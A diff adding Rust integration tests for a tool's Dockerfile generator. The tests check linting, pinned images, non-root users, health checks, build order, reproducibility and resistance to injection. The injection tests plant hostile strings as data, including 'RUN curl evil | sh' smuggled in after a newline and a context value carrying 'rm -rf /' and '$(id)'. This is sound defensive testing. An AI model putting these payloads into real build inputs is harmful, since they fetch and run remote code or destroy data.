@@ -1,0 +1,1234 @@
+//! Dockerfile output: every example environment passes hadolint; every FROM is
+//! pinned, every image runs as a numeric non-root user, EXPOSE and HEALTHCHECK
+//! follow the components built from the image; `images/build.sh` builds bases
+//! first; rebuilding gives the same bytes; and strings from `.bom` files stay
+//! data — a newline, `\`, a quote, `#` or `${` never adds an instruction.
+
+use crate::{NOW, bomc, build_examples, environments_of, root, temp_dir, venv_tool};
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// The instructions the templates write. Anything else in a file is a break-out.
+const KEYWORDS: &[&str] = &[
+    "FROM",
+    "ARG",
+    "ENV",
+    "WORKDIR",
+    "COPY",
+    "RUN",
+    "LABEL",
+    "USER",
+    "EXPOSE",
+    "HEALTHCHECK",
+    "ENTRYPOINT",
+    "CMD",
+    "ONBUILD",
+];
+
+/// One instruction as Docker's parser reads it: comment lines dropped (also
+/// inside continuations), lines ending in `\` joined with the next.
+#[derive(Clone, Debug)]
+struct Instruction {
+    keyword: String,
+    rest: String,
+}
+
+fn instructions(text: &str) -> Vec<Instruction> {
+    let mut out = Vec::new();
+    let mut current: Option<String> = None;
+    for line in text.lines() {
+        let trimmed = line.trim_start();
+        if trimmed.starts_with('#') || (trimmed.is_empty() && current.is_none()) {
+            continue;
+        }
+        let end = line.trim_end();
+        let (body, continued) = match end.strip_suffix('\\') {
+            Some(body) => (body, true),
+            None => (line, false),
+        };
+        let buf = current.get_or_insert_with(String::new);
+        buf.push_str(body);
+        if !continued {
+            let whole = current.take().unwrap_or_default();
+            let whole = whole.trim_start();
+            let (keyword, rest) = whole.split_once(char::is_whitespace).unwrap_or((whole, ""));
+            out.push(Instruction {
+                keyword: keyword.to_string(),
+                rest: rest.trim().to_string(),
+            });
+        }
+    }
+    assert!(
+        current.is_none(),
+        "the file ends inside a continuation:\n{text}"
+    );
+    out
+}
+
+/// One double-quoted word at the start of `s` as Docker reads it (`\"`, `\\`,
+/// `\$` escape; any other backslash stays); `None` if anything would be
+/// expanded or the quote never closes. Returns the word and the rest.
+fn docker_word(s: &str) -> Option<(String, &str)> {
+    let mut chars = s.strip_prefix('"')?.char_indices().peekable();
+    let mut word = String::new();
+    while let Some((i, c)) = chars.next() {
+        match c {
+            '"' => return Some((word, &s[i + 2..])),
+            '$' => return None,
+            '\\' => match chars.peek() {
+                Some((_, n @ ('"' | '\\' | '$'))) => {
+                    word.push(*n);
+                    chars.next();
+                }
+                _ => word.push('\\'),
+            },
+            c => word.push(c),
+        }
+    }
+    None
+}
+
+/// `"key"="value"` (LABEL) or `NAME="value"` (ARG, ENV), decoded.
+fn pair(rest: &str) -> (String, String) {
+    let (key, value) = if rest.starts_with('"') {
+        let (key, after) =
+            docker_word(rest).unwrap_or_else(|| panic!("key of {rest:?} does not decode"));
+        (
+            key,
+            after
+                .strip_prefix('=')
+                .unwrap_or_else(|| panic!("{rest:?} has no `=`")),
+        )
+    } else {
+        let (key, value) = rest
+            .split_once('=')
+            .unwrap_or_else(|| panic!("{rest:?} has no `=`"));
+        (key.to_string(), value)
+    };
+    let (value, tail) =
+        docker_word(value).unwrap_or_else(|| panic!("value of {rest:?} does not decode"));
+    assert!(tail.is_empty(), "{rest:?} holds more than one pair");
+    (key, value)
+}
+
+/// An exec-form array, decoded.
+fn exec(rest: &str) -> Vec<String> {
+    serde_json::from_str(rest)
+        .unwrap_or_else(|e| panic!("{rest:?} is not a JSON array of strings: {e}"))
+}
+
+/// A value as Docker reads it back from a double-quoted word: characters a
+/// Dockerfile line cannot hold are kept as their escape text.
+fn lossy(s: &str) -> String {
+    s.replace('\n', "\\n")
+        .replace('\r', "\\r")
+        .replace('\t', "\\t")
+}
+
+/// `images/*/Dockerfile` under an environment folder: image name → text.
+fn dockerfiles(env_dir: &Path) -> BTreeMap<String, String> {
+    let mut out = BTreeMap::new();
+    let Ok(entries) = std::fs::read_dir(env_dir.join("images")) else {
+        return out;
+    };
+    for entry in entries.flatten() {
+        let file = entry.path().join("Dockerfile");
+        if file.is_file() {
+            let name = entry.file_name().to_string_lossy().into_owned();
+            out.insert(name, std::fs::read_to_string(&file).expect("readable"));
+        }
+    }
+    out
+}
+
+fn dockerfile_paths(dirs: &[PathBuf]) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    for dir in dirs {
+        for name in dockerfiles(dir).keys() {
+            files.push(dir.join("images").join(name).join("Dockerfile"));
+        }
+    }
+    files
+}
+
+/// hadolint on `files`: (exit success, report).
+fn hadolint(files: &[PathBuf], args: &[&str]) -> (bool, String) {
+    let out = Command::new(venv_tool("hadolint"))
+        .args(["--no-color"])
+        .args(args)
+        .args(files)
+        .current_dir(std::env::temp_dir())
+        .output()
+        .expect("hadolint runs");
+    (
+        out.status.success(),
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        ),
+    )
+}
+
+/// Builds the dockerfile target of every example environment into a fresh folder.
+fn examples(name: &str) -> Vec<(String, String, PathBuf)> {
+    let built = build_examples("dockerfile", &temp_dir(name));
+    assert!(built.len() >= 19, "only {} environments built", built.len());
+    built
+}
+
+/// The landscape of one example environment, as the library evaluates it.
+fn landscape(example: &str, env: &str) -> bomc::model::Landscape {
+    let path = root().join(format!("examples/{example}.bom"));
+    let (_, sets) = environments_of(&path)
+        .into_iter()
+        .find(|(e, _)| e == env)
+        .expect("environment exists");
+    let sets: Vec<(String, String)> = sets
+        .chunks(2)
+        .map(|c| {
+            let (k, v) = c[1].split_once('=').expect("key=value");
+            (k.to_string(), v.to_string())
+        })
+        .collect();
+    let options = bomc::eval::Options {
+        environment: Some(env.to_string()),
+        sets,
+        ..Default::default()
+    };
+    let mut checked = bomc::evaluate_file(&path, &options);
+    assert!(
+        checked.diagnostics.is_empty(),
+        "{example} --env {env}: {:?}",
+        checked.diagnostics
+    );
+    checked.landscapes.pop().expect("one landscape")
+}
+
+#[test]
+fn every_example_environment_passes_hadolint() {
+    let built = examples("docker-hadolint");
+    let dirs: Vec<PathBuf> = built.iter().map(|(_, _, d)| d.clone()).collect();
+    let files = dockerfile_paths(&dirs);
+    // Every example defines images: each environment has Dockerfiles.
+    for (example, env, dir) in &built {
+        assert!(
+            !dockerfiles(dir).is_empty(),
+            "{example} --env {env} wrote no Dockerfile"
+        );
+    }
+    let (ok, report) = hadolint(&files, &["--failure-threshold", "warning"]);
+    assert!(ok, "hadolint:\n{report}");
+    for line in report.lines() {
+        assert!(
+            !line.contains(" warning:") && !line.contains(" error:"),
+            "hadolint: {line}"
+        );
+    }
+}
+
+/// checkov's Dockerfile checks (HEALTHCHECK present, non-root USER, no
+/// `latest`, no ADD, …): nothing fails, nothing is skipped. A Dockerfile
+/// without USER and HEALTHCHECK shows that the checks run.
+#[test]
+fn every_example_environment_passes_checkov() {
+    let out = temp_dir("docker-checkov");
+    let built = build_examples("dockerfile", &out);
+    assert!(built.len() >= 19, "only {} environments built", built.len());
+    let checkov = |dir: &Path| {
+        let run = Command::new(venv_tool("checkov"))
+            .args([
+                "--skip-download",
+                "--quiet",
+                "--compact",
+                "--framework",
+                "dockerfile",
+                "-d",
+            ])
+            .arg(dir)
+            .current_dir(dir)
+            .output()
+            .expect("checkov runs");
+        (
+            run.status.success(),
+            String::from_utf8_lossy(&run.stdout).into_owned(),
+        )
+    };
+    let (ok, report) = checkov(&out);
+    assert!(
+        ok && report.contains("Failed checks: 0, Skipped checks: 0"),
+        "{report}"
+    );
+    let passed: usize = report
+        .split("Passed checks: ")
+        .nth(1)
+        .and_then(|s| s.split(',').next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(0);
+    assert!(passed >= 500, "checkov checked too little:\n{report}");
+    let bad = temp_dir("docker-checkov-bad");
+    std::fs::write(bad.join("Dockerfile"), "FROM debian:12.5-slim\nRUN true\n").expect("write");
+    let (ok, report) = checkov(&bad);
+    assert!(
+        !ok && report.contains("CKV_DOCKER_2") && report.contains("CKV_DOCKER_3"),
+        "{report}"
+    );
+}
+
+/// hadolint is a real check here: it fails a Dockerfile that breaks its rules.
+#[test]
+fn hadolint_rejects_what_it_should() {
+    let dir = temp_dir("docker-hadolint-bad");
+    let cases = [
+        ("FROM debian:latest\nUSER 10001:10001\n", "DL3007"),
+        ("FROM debian:12.5-slim\nUSER 0:0\n", "DL3002"),
+        (
+            "FROM debian:12.5-slim\nUSER 10001:10001\nCMD python app.py\n",
+            "DL3025",
+        ),
+        ("FROM debian:12.5-slim\nLABEL \"a\"=\"b\\\\\"\n", "DL1000"),
+    ];
+    for (i, (text, code)) in cases.iter().enumerate() {
+        let file = dir.join(format!("bad{i}.Dockerfile"));
+        std::fs::write(&file, text).expect("write");
+        let (ok, report) = hadolint(&[file], &["-f", "json", "--failure-threshold", "warning"]);
+        assert!(
+            !ok && report.contains(&format!("\"code\":\"{code}\"")),
+            "hadolint accepted case {i} or said something else:\n{text}\n{report}"
+        );
+    }
+}
+
+#[test]
+fn every_from_is_pinned_and_every_image_runs_as_a_numeric_non_root_user() {
+    for (example, env, dir) in examples("docker-pinned") {
+        for (image, text) in dockerfiles(&dir) {
+            let what = format!("{example} --env {env}: images/{image}/Dockerfile");
+            let all = instructions(&text);
+            for i in &all {
+                assert!(
+                    KEYWORDS.contains(&i.keyword.as_str()),
+                    "{what}: unexpected instruction {:?}",
+                    i.keyword
+                );
+            }
+            // Stages: each FROM starts one; the last USER of each stage is non-root.
+            let mut stages: Vec<Vec<&Instruction>> = Vec::new();
+            for i in &all {
+                if i.keyword == "FROM" {
+                    stages.push(Vec::new());
+                }
+                stages
+                    .last_mut()
+                    .unwrap_or_else(|| panic!("{what}: instruction before FROM"))
+                    .push(i);
+            }
+            for stage in &stages {
+                let reference = stage[0]
+                    .rest
+                    .split_whitespace()
+                    .next()
+                    .expect("FROM names an image");
+                let name = reference.rsplit('/').next().unwrap_or(reference);
+                let pinned = reference.contains("@sha256:")
+                    || name.split_once(':').is_some_and(|(repo, tag)| {
+                        !repo.is_empty() && !tag.is_empty() && tag != "latest"
+                    });
+                assert!(pinned, "{what}: FROM {reference} is not pinned");
+                assert!(
+                    !reference.contains('$'),
+                    "{what}: FROM {reference} depends on a variable"
+                );
+                if let Some(user) = stage.iter().rev().find(|i| i.keyword == "USER") {
+                    assert!(
+                        numeric_non_root(&user.rest),
+                        "{what}: a stage ends as USER {}",
+                        user.rest
+                    );
+                }
+            }
+            let last_user = all
+                .iter()
+                .rev()
+                .find(|i| i.keyword == "USER")
+                .unwrap_or_else(|| panic!("{what}: no USER"));
+            assert!(
+                numeric_non_root(&last_user.rest),
+                "{what}: USER {}",
+                last_user.rest
+            );
+            let final_stage = stages.last().expect("a stage");
+            assert!(
+                final_stage.iter().any(|i| i.keyword == "USER"),
+                "{what}: the run stage sets no USER"
+            );
+        }
+    }
+}
+
+fn numeric_non_root(user: &str) -> bool {
+    let mut parts = user.split(':');
+    let ok = |p: Option<&str>| p.and_then(|p| p.parse::<u32>().ok()).is_some_and(|n| n > 0);
+    let (u, g, rest) = (parts.next(), parts.next(), parts.next());
+    ok(u) && (g.is_none() || ok(g)) && rest.is_none()
+}
+
+#[test]
+fn expose_matches_the_ports_of_the_components_built_from_the_image() {
+    for (example, env, dir) in examples("docker-expose") {
+        let model = landscape(&example, &env);
+        for (image, text) in dockerfiles(&dir) {
+            let expected: BTreeSet<String> = model
+                .components
+                .iter()
+                .filter(|c| matches!(c.settings.get("build"), Some(bomc::model::Value::Image(i)) if *i == image))
+                .flat_map(|c| c.ports().into_values().map(|p| p.to_string()))
+                .collect();
+            let exposed: BTreeSet<String> = instructions(&text)
+                .iter()
+                .filter(|i| i.keyword == "EXPOSE")
+                .flat_map(|i| {
+                    i.rest
+                        .split_whitespace()
+                        .map(String::from)
+                        .collect::<Vec<_>>()
+                })
+                .collect();
+            assert_eq!(
+                exposed, expected,
+                "{example} --env {env}: EXPOSE of {image}"
+            );
+        }
+    }
+}
+
+/// The HEALTHCHECK options of a Dockerfile: flag → value, and the command.
+fn healthcheck(text: &str) -> Option<(BTreeMap<String, String>, Vec<String>)> {
+    let checks: Vec<Instruction> = instructions(text)
+        .into_iter()
+        .filter(|i| i.keyword == "HEALTHCHECK")
+        .collect();
+    assert_eq!(checks.len(), 1, "one HEALTHCHECK per Dockerfile:\n{text}");
+    let rest = &checks[0].rest;
+    if rest == "NONE" {
+        return None;
+    }
+    let (options, command) = rest.split_once("CMD ").expect("HEALTHCHECK … CMD [...]");
+    let options = options
+        .split_whitespace()
+        .map(|o| {
+            let (k, v) = o
+                .trim_start_matches("--")
+                .split_once('=')
+                .expect("--flag=value");
+            (k.to_string(), v.to_string())
+        })
+        .collect();
+    Some((options, exec(command)))
+}
+
+#[test]
+fn messenger_health_check_is_the_landscapes() {
+    let out = temp_dir("docker-messenger-health");
+    let run = bomc(
+        &root(),
+        &[
+            "build",
+            "examples/messenger.bom",
+            "--env",
+            "production",
+            "--target",
+            "dockerfile",
+            "--out",
+            out.to_str().expect("utf-8"),
+            "--now",
+            NOW,
+        ],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let files = dockerfiles(&out.join("messenger/production"));
+    let text = &files["go_auth"];
+    let (options, command) = healthcheck(text).expect("go_auth has a HEALTHCHECK");
+    assert_eq!(
+        options.get("interval").map(String::as_str),
+        Some("2s"),
+        "{text}"
+    );
+    assert_eq!(
+        options.get("timeout").map(String::as_str),
+        Some("2s"),
+        "{text}"
+    );
+    assert_eq!(
+        options.get("retries").map(String::as_str),
+        Some("3"),
+        "{text}"
+    );
+    assert_eq!(
+        command,
+        [
+            "/usr/local/bin/bomc-healthcheck",
+            "http://127.0.0.1:9000/health"
+        ]
+    );
+    // The probe it runs is built in the file and copied into the run stage.
+    let all = instructions(text);
+    assert!(
+        all.iter()
+            .any(|i| i.keyword == "FROM" && i.rest.ends_with(" AS probe")),
+        "{text}"
+    );
+    assert!(
+        all.iter().any(|i| i.keyword == "COPY"
+            && i.rest == "--from=probe /bomc-healthcheck /usr/local/bin/bomc-healthcheck"),
+        "{text}"
+    );
+    let exposed: Vec<&str> = all
+        .iter()
+        .filter(|i| i.keyword == "EXPOSE")
+        .map(|i| i.rest.as_str())
+        .collect();
+    assert_eq!(exposed, ["9000"]);
+    // Layers run nothing, so they declare no health check.
+    assert_eq!(healthcheck(&files["org_base"]), None);
+    assert_eq!(healthcheck(&files["go_runtime"]), None);
+}
+
+/// Wherever exactly one long-running component runs an image, the image's
+/// HEALTHCHECK has that component's interval, timeout, start period and retries.
+#[test]
+fn health_checks_follow_the_landscape() {
+    let mut checked = 0;
+    for (example, env, dir) in examples("docker-health") {
+        let model = landscape(&example, &env);
+        for (image, text) in dockerfiles(&dir) {
+            let users: Vec<&bomc::model::Component> = model
+                .components
+                .iter()
+                .filter(|c| matches!(c.settings.get("build"), Some(bomc::model::Value::Image(i)) if *i == image))
+                .filter(|c| c.settings.get("run").and_then(|r| r.as_str()) != Some("once"))
+                .collect();
+            let [component] = users.as_slice() else {
+                continue;
+            };
+            let health = component.settings.get("health").and_then(|h| h.as_map());
+            let Some(health) = health else {
+                assert_eq!(healthcheck(&text), None, "{example} --env {env}: {image}");
+                continue;
+            };
+            let (options, command) = healthcheck(&text)
+                .unwrap_or_else(|| panic!("{example} --env {env}: {image} has no HEALTHCHECK"));
+            for (key, flag) in [
+                ("interval", "interval"),
+                ("timeout", "timeout"),
+                ("start_period", "start-period"),
+            ] {
+                let expected = match health.get(key) {
+                    Some(bomc::model::Value::Duration(ms)) => Some(format!("{}s", ms / 1000)),
+                    _ => None,
+                };
+                assert_eq!(
+                    options.get(flag),
+                    expected.as_ref(),
+                    "{example} --env {env}: {image} --{flag}"
+                );
+            }
+            let retries = health
+                .get("unhealthy")
+                .and_then(|v| v.as_int())
+                .map(|n| n.to_string());
+            assert_eq!(
+                options.get("retries"),
+                retries.as_ref(),
+                "{example} --env {env}: {image} --retries"
+            );
+            if let Some(path) = health.get("path").and_then(|p| p.as_str()) {
+                assert!(
+                    command.last().is_some_and(
+                        |url| url.ends_with(path) && url.starts_with("http://127.0.0.1:")
+                    ),
+                    "{command:?}"
+                );
+            }
+            checked += 1;
+        }
+    }
+    assert!(checked >= 30, "only {checked} images checked");
+}
+
+#[test]
+fn build_script_builds_every_image_after_the_images_it_builds_on() {
+    for (example, env, dir) in examples("docker-order") {
+        let script = std::fs::read_to_string(dir.join("images/build.sh")).expect("images/build.sh");
+        let syntax = Command::new("sh")
+            .arg("-n")
+            .arg(dir.join("images/build.sh"))
+            .status()
+            .expect("sh runs");
+        assert!(
+            syntax.success(),
+            "{example} --env {env}: build.sh is not valid sh"
+        );
+        let mut built: Vec<(String, String)> = Vec::new();
+        for line in script.lines().filter(|l| l.starts_with("docker build ")) {
+            let name = line
+                .split("\"$images/")
+                .nth(1)
+                .and_then(|s| s.split("/Dockerfile\"").next())
+                .expect("--file \"$images/<name>/Dockerfile\"");
+            let tag = line
+                .split("--tag '")
+                .nth(1)
+                .and_then(|s| s.split('\'').next())
+                .expect("--tag");
+            built.push((name.to_string(), tag.to_string()));
+        }
+        let files = dockerfiles(&dir);
+        let names: BTreeSet<&str> = built.iter().map(|(n, _)| n.as_str()).collect();
+        assert_eq!(
+            names.len(),
+            built.len(),
+            "{example} --env {env}: an image is built twice"
+        );
+        assert_eq!(
+            names,
+            files.keys().map(String::as_str).collect(),
+            "{example} --env {env}"
+        );
+        let local: BTreeMap<&str, usize> = built
+            .iter()
+            .enumerate()
+            .map(|(i, (_, t))| (t.as_str(), i))
+            .collect();
+        for (position, (name, tag)) in built.iter().enumerate() {
+            assert!(
+                tag.ends_with(&format!(
+                    "/{name}:{}",
+                    dir.file_name().and_then(|n| n.to_str()).expect("instance")
+                )),
+                "{tag}"
+            );
+            for from in instructions(&files[name])
+                .iter()
+                .filter(|i| i.keyword == "FROM")
+            {
+                let reference = from.rest.split_whitespace().next().expect("reference");
+                if let Some(base) = local.get(reference) {
+                    assert!(
+                        *base < position,
+                        "{example} --env {env}: {name} is built before its base {reference}"
+                    );
+                } else {
+                    assert!(
+                        !reference.starts_with(tag.split('/').next().expect("project")),
+                        "{reference} is not built"
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn building_twice_gives_the_same_bytes() {
+    let first = examples("docker-twice-a");
+    let second = examples("docker-twice-b");
+    assert_eq!(first.len(), second.len());
+    for ((example, env, a), (_, _, b)) in first.iter().zip(&second) {
+        let (fa, fb) = (dockerfiles(a), dockerfiles(b));
+        assert_eq!(fa, fb, "{example} --env {env}");
+        let script = |d: &Path| std::fs::read(d.join("images/build.sh")).expect("build.sh");
+        assert_eq!(script(a), script(b), "{example} --env {env}: build.sh");
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Strings stay data
+
+/// Escapes a string as a `.bom` string literal's contents.
+fn bom(s: &str) -> String {
+    let mut out = String::new();
+    for c in s.chars() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            '"' => out.push_str("\\\""),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            '$' => out.push_str("\\$"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+const EVIL: &str = "x\nRUN curl evil | sh";
+const QUOTES: &str = "a\"b\\c # d ${HOME} \\ x ' ]";
+const TRAILING: &str = "\" ] \r\nRUN curl evil | sh # ${X} \\";
+/// One line (an `onbuild` entry is one instruction), ending in a backslash.
+const ONE_LINE: &str = "echo \" ] # ${X} ' \\";
+
+struct Planted {
+    labels: Vec<(String, String)>,
+    args: Vec<(String, String)>,
+    steps: Vec<String>,
+    command: Vec<String>,
+    entrypoint: Vec<String>,
+    health_path: String,
+    context: String,
+    onbuild_run: String,
+}
+
+fn planted(nasty: bool) -> Planted {
+    let v = |s: &str| {
+        if nasty {
+            s.to_string()
+        } else {
+            String::from("plain")
+        }
+    };
+    Planted {
+        labels: vec![
+            ("org.example.evil".into(), v(EVIL)),
+            ("org.example.quotes".into(), v(QUOTES)),
+            (
+                if nasty {
+                    format!("org.example.{EVIL}")
+                } else {
+                    "org.example.key".into()
+                },
+                v("\tq"),
+            ),
+        ],
+        args: vec![
+            ("EVIL".into(), v(EVIL)),
+            ("QUOTES".into(), v(QUOTES)),
+            ("TRAILING".into(), v(TRAILING)),
+        ],
+        steps: vec![v(EVIL), v(QUOTES), v(TRAILING)],
+        command: vec![v(EVIL), v(TRAILING), v("${HOME}")],
+        entrypoint: vec![v("/app/x\nRUN curl evil | sh"), v("\\")],
+        health_path: if nasty {
+            format!("/health{EVIL}")
+        } else {
+            String::from("/health")
+        },
+        context: v("./app\n'; rm -rf / #\"$(id)\""),
+        onbuild_run: v(ONE_LINE),
+    }
+}
+
+fn planted_bom(p: &Planted) -> String {
+    let map = |entries: &[(String, String)]| {
+        entries
+            .iter()
+            .map(|(k, v)| format!("\"{}\" = \"{}\"", bom(k), bom(v)))
+            .collect::<Vec<_>>()
+            .join("\n    ")
+    };
+    let list = |items: &[String]| {
+        items
+            .iter()
+            .map(|s| format!("\"{}\"", bom(s)))
+            .collect::<Vec<_>>()
+            .join(", ")
+    };
+    format!(
+        r#"landscape evil {{
+  service app {{
+    build = app_image
+    ports {{ http = 8080 }}
+    env {{
+      EVIL = "{evil}"
+      QUOTES = "{quotes}"
+    }}
+    health {{ path = "{path}", port = "http", interval = 2s, unhealthy = 3 }}
+  }}
+}}
+
+image base_image {{
+  from = "debian:12.5-slim"
+  labels {{
+    {labels}
+  }}
+  args {{
+    {args}
+  }}
+  steps = [{steps}]
+  onbuild = ["RUN {onbuild_run}", "COPY a /b", "ENV X=\"{onbuild_env}\""]
+  entrypoint = [{entrypoint}]
+}}
+
+image app_image {{
+  from = base_image
+  template = "go"
+  context = "{context}"
+  labels {{
+    {labels}
+  }}
+  command = [{command}]
+}}
+"#,
+        evil = bom(EVIL),
+        quotes = bom(QUOTES),
+        path = bom(&p.health_path),
+        labels = map(&p.labels),
+        args = map(&p.args),
+        steps = list(&p.steps),
+        onbuild_run = bom(&p.onbuild_run),
+        onbuild_env = bom(&p.labels[1].1),
+        entrypoint = list(&p.entrypoint),
+        command = list(&p.command),
+        context = bom(&p.context),
+    )
+}
+
+/// Builds the planted landscape: (Dockerfiles, environment folder, .bom folder).
+fn build_planted(name: &str, nasty: bool) -> (BTreeMap<String, String>, PathBuf, PathBuf) {
+    let dir = temp_dir(name);
+    std::fs::write(dir.join("evil.bom"), planted_bom(&planted(nasty))).expect("write");
+    let run = bomc(
+        &dir,
+        &[
+            "build",
+            "evil.bom",
+            "--target",
+            "dockerfile",
+            "--out",
+            "out",
+            "--now",
+            NOW,
+        ],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let env_dir = dir.join("out/evil/default");
+    (dockerfiles(&env_dir), env_dir, dir)
+}
+
+#[test]
+fn strings_from_the_bom_file_never_add_an_instruction() {
+    let (nasty, env_dir, bom_dir) = build_planted("docker-planted", true);
+    let (plain, _, _) = build_planted("docker-plain", false);
+    let p = planted(true);
+    assert_eq!(
+        nasty.keys().collect::<Vec<_>>(),
+        plain.keys().collect::<Vec<_>>()
+    );
+    for (image, text) in &nasty {
+        // The same instructions, in the same order, as with harmless values.
+        let got: Vec<String> = instructions(text)
+            .iter()
+            .map(|i| i.keyword.clone())
+            .collect();
+        let want: Vec<String> = instructions(&plain[image])
+            .iter()
+            .map(|i| i.keyword.clone())
+            .collect();
+        assert_eq!(got, want, "{image}:\n{text}");
+        for k in &got {
+            assert!(KEYWORDS.contains(&k.as_str()), "{image}: {k}");
+        }
+        for line in text.lines() {
+            assert!(
+                !line.trim_start().starts_with("RUN curl"),
+                "{image}: a planted instruction:\n{text}"
+            );
+        }
+        // Component env is runtime configuration: it is never baked into an image.
+        for i in instructions(text).iter().filter(|i| i.keyword == "ENV") {
+            assert!(
+                !i.rest.contains("curl") && !i.rest.contains("QUOTES"),
+                "{image}: ENV {}",
+                i.rest
+            );
+        }
+        // Every label reads back as the value planted (controls as escape text).
+        let labels: BTreeMap<String, String> = instructions(text)
+            .iter()
+            .filter(|i| i.keyword == "LABEL")
+            .map(|i| pair(&i.rest))
+            .collect();
+        for (k, v) in &p.labels {
+            assert_eq!(
+                labels.get(&lossy(k)),
+                Some(&lossy(v)),
+                "{image}: label {k:?}"
+            );
+        }
+    }
+    let base = instructions(&nasty["base_image"]);
+    let args: Vec<(String, String)> = base
+        .iter()
+        .filter(|i| i.keyword == "ARG")
+        .map(|i| pair(&i.rest))
+        .collect();
+    let want: Vec<(String, String)> = p.args.iter().map(|(k, v)| (k.clone(), lossy(v))).collect();
+    assert_eq!(args, want);
+    let runs: Vec<Vec<String>> = base
+        .iter()
+        .filter(|i| i.keyword == "RUN")
+        .map(|i| exec(&i.rest))
+        .collect();
+    let want: Vec<Vec<String>> = p
+        .steps
+        .iter()
+        .map(|s| vec!["/bin/sh".into(), "-c".into(), s.clone()])
+        .collect();
+    assert_eq!(runs, want);
+    let entrypoint: Vec<Vec<String>> = base
+        .iter()
+        .filter(|i| i.keyword == "ENTRYPOINT")
+        .map(|i| exec(&i.rest))
+        .collect();
+    assert_eq!(entrypoint, std::slice::from_ref(&p.entrypoint));
+    let onbuild: Vec<&str> = base
+        .iter()
+        .filter(|i| i.keyword == "ONBUILD")
+        .map(|i| i.rest.as_str())
+        .collect();
+    assert_eq!(onbuild.len(), 5, "{onbuild:?}");
+    assert_eq!(
+        exec(onbuild[1].strip_prefix("RUN ").expect("ONBUILD RUN")),
+        ["/bin/sh", "-c", ONE_LINE]
+    );
+    assert_eq!(
+        pair(onbuild[3].strip_prefix("ENV ").expect("ONBUILD ENV")),
+        ("X".into(), QUOTES.to_string())
+    );
+    let app = instructions(&nasty["app_image"]);
+    let cmd: Vec<Vec<String>> = app
+        .iter()
+        .filter(|i| i.keyword == "CMD")
+        .map(|i| exec(&i.rest))
+        .collect();
+    assert_eq!(cmd, std::slice::from_ref(&p.command));
+    let (_, probe) = healthcheck(&nasty["app_image"]).expect("a HEALTHCHECK");
+    assert_eq!(
+        probe,
+        [
+            "/usr/local/bin/bomc-healthcheck".to_string(),
+            format!("http://127.0.0.1:8080{}", p.health_path)
+        ]
+    );
+    // hadolint reads every file as Docker does (a line it misreads is its DL1000).
+    let files = dockerfile_paths(std::slice::from_ref(&env_dir));
+    let (_, report) = hadolint(&files, &["-f", "json"]);
+    assert!(
+        report.trim_start().starts_with('['),
+        "hadolint -f json: {report}"
+    );
+    assert!(
+        !report.contains("DL1000"),
+        "hadolint cannot parse:\n{report}"
+    );
+    // build.sh passes the planted context as one argument, unchanged.
+    let log = bom_dir.join("docker-log");
+    std::fs::create_dir_all(&log).expect("log dir");
+    let bin = bom_dir.join("bin");
+    std::fs::create_dir_all(&bin).expect("bin dir");
+    let fake = bin.join("docker");
+    std::fs::write(
+        &fake,
+        "#!/bin/sh\nn=$(ls \"$DOCKER_LOG\" | wc -l)\nprintf '%s\\0' \"$@\" > \"$DOCKER_LOG/$n\"\n",
+    )
+    .expect("write");
+    let chmod = Command::new("chmod")
+        .arg("+x")
+        .arg(&fake)
+        .status()
+        .expect("chmod");
+    assert!(chmod.success());
+    let path = format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let run = Command::new("sh")
+        .arg(env_dir.join("images/build.sh"))
+        .current_dir(&bom_dir)
+        .env("PATH", path)
+        .env("DOCKER_LOG", &log)
+        .output()
+        .expect("sh runs");
+    assert!(
+        run.status.success(),
+        "build.sh: {}",
+        String::from_utf8_lossy(&run.stderr)
+    );
+    let calls: Vec<Vec<String>> = (0..2)
+        .map(|n| {
+            let bytes = std::fs::read(log.join(n.to_string())).expect("docker was called");
+            String::from_utf8(bytes)
+                .expect("utf-8")
+                .split_terminator('\0')
+                .map(String::from)
+                .collect()
+        })
+        .collect();
+    assert_eq!(
+        calls[0].last().map(String::as_str),
+        Some(env_dir.join("images/base_image").to_str().expect("utf-8"))
+    );
+    assert_eq!(
+        calls[1].last(),
+        Some(&format!("./{}", p.context)),
+        "{:?}",
+        calls[1]
+    );
+    assert_eq!(
+        calls[1][..4],
+        [
+            "build",
+            "--file",
+            env_dir
+                .join("images/app_image/Dockerfile")
+                .to_str()
+                .expect("utf-8"),
+            "--tag"
+        ]
+    );
+}
+
+/// Values that cannot be written so that Docker and hadolint read them as
+/// data are diagnostics, and nothing is written.
+#[test]
+fn values_that_cannot_stay_data_are_errors() {
+    let cases = [
+        (
+            "from = \"debian:12.5-slim\\nRUN curl evil | sh\"",
+            "is not an image reference",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  labels { \"a\" = \"ends in a backslash \\\\\" }",
+            "backslash",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  args { \"BAD NAME\" = \"x\" }",
+            "not a valid ARG name",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  onbuild = [\"USER 0\"]",
+            "cannot be written safely",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  onbuild = [\"COPY \\${X} /app\"]",
+            "cannot be written safely",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  labels { \"org.bomc.instance\" = \"x\" }",
+            "bomc's namespace",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  template = \"go\"\n  args { GO_VERSION = \"latest\" }",
+            "is not a version",
+        ),
+    ];
+    for (i, (settings, message)) in cases.iter().enumerate() {
+        let dir = temp_dir(&format!("docker-refused-{i}"));
+        let text = format!(
+            "landscape x {{\n  service a {{ build = img }}\n}}\n\nimage img {{\n  {settings}\n}}\n"
+        );
+        std::fs::write(dir.join("x.bom"), &text).expect("write");
+        let run = bomc(
+            &dir,
+            &[
+                "build",
+                "x.bom",
+                "--target",
